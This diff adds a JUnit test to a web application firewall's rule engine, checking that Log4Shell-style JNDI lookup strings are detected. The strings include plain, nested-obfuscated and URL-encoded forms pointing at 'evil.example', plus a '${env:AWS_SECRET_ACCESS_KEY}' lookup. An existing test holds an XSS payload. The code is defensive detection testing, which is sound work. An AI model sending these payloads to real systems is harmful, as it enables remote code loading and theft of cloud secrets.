@@ -73,6 +73,22 @@ class RuleEngineTest {
     }
 
     @Test
+    void jndiLookupsAreBlockedInAnyInputPlainOrObfuscated() {
+        RuleEngine engine = engine();
+        for (String lookup : List.of("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}",
+                "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+                "${env:AWS_SECRET_ACCESS_KEY}")) {
+            RequestRecord record = request("/", "192.0.2.1", "HEADER", "User-Agent", lookup);
+            Detection found = engine.inspect(record, ALL, true);
+            assertThat(found).as(lookup).isNotNull();
+            assertThat(found.ruleId()).isEqualTo("jndi-lookup");
+        }
+        for (String text : List.of("echo ${HOME}/bin", "${user.name} placeholder", "cost: $5 {approx}", "{{name}}")) {
+            assertThat(engine.inspect(request("/", "192.0.2.1", "QUERY", "q", text), ALL, true)).as(text).isNull();
+        }
+    }
+
+    @Test
     void monitorModeAndMonitorRulesRecordWithoutBlocking() {
         RequestRecord xss = request("/", "192.0.2.1", "JSON", "user.bio", "<img src=x onerror=alert(1)>");
         Detection found = engine("palisade.mode", "monitor").inspect(xss, ALL, true);
